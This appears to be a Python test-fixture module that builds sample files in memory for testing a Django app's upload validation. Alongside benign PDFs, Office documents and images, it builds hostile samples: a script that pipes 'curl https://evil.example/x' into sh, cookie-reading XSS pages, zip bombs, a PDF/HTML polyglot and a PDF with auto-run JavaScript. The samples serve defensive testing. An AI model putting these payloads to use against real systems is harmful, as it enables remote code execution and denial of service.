"""Real files of each kind, made in memory, for upload tests."""

import io
import zipfile

from django.core.files.uploadedfile import SimpleUploadedFile

from demo.materials import draw_pdf


def pdf_bytes(title="Kaatumisten ehkäisy", text="Esimerkki.") -> bytes:
    return draw_pdf(title, text)


def ooxml_bytes(main_part="word/document.xml") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        archive.writestr(main_part, '<?xml version="1.0"?><document/>')
    return buffer.getvalue()


def opendocument_bytes(mimetype="application/vnd.oasis.opendocument.text") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", mimetype)
        archive.writestr("content.xml", "<office:document-content/>")
    return buffer.getvalue()


def ole_bytes() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504


def image_bytes(image_format="PNG") -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 30, 30)).save(buffer, format=image_format)
    return buffer.getvalue()


def upload(name: str, content: bytes, content_type="application/octet-stream") -> SimpleUploadedFile:
    """What a browser sends; the content type it claims is ignored by the checks."""
    return SimpleUploadedFile(name, content, content_type=content_type)


HTML_PAGE = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SHELL_SCRIPT = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"


def zip_bomb(parts: dict[str, bytes], *, expanding_part: str, expanded_bytes: int) -> bytes:
    """A small archive with `parts` and one part that unpacks to `expanded_bytes` of zeros (written in chunks,
    so that making the bomb does not hold its unpacked size in memory either)."""
    buffer = io.BytesIO()
    zeros = b"\x00" * (1024 * 1024)
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
        with archive.open(expanding_part, "w") as part:
            for start in range(0, expanded_bytes, len(zeros)):
                part.write(zeros[: expanded_bytes - start])
    return buffer.getvalue()


def odf_zip_bomb(expanded_bytes: int) -> bytes:
    """An OpenDocument text whose `mimetype` part is huge: the one part the type check used to read whole."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        with archive.open("mimetype", "w") as part:
            part.write(b"application/vnd.oasis.opendocument.text")
            padding = b" " * (1024 * 1024)
            for start in range(0, expanded_bytes, len(padding)):
                part.write(padding[: expanded_bytes - start])
        archive.writestr("content.xml", "<office:document-content/>")
    return buffer.getvalue()


def archive_with_parts(count: int, main_part="word/document.xml") -> bytes:
    """An Office document of `count` tiny parts."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        archive.writestr(main_part, '<?xml version="1.0"?><document/>')
        for index in range(count - 2):
            archive.writestr(f"word/media/part{index}.xml", "<x/>")
    return buffer.getvalue()


def pdf_with_html() -> bytes:
    """A polyglot: a PDF header, then a web page with a script."""
    return b"%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>\n%%EOF\n"


def pdf_with_javascript() -> bytes:
    """A PDF whose catalogue runs JavaScript when the document opens."""
    return (
        b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\n"
        b"endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
    )
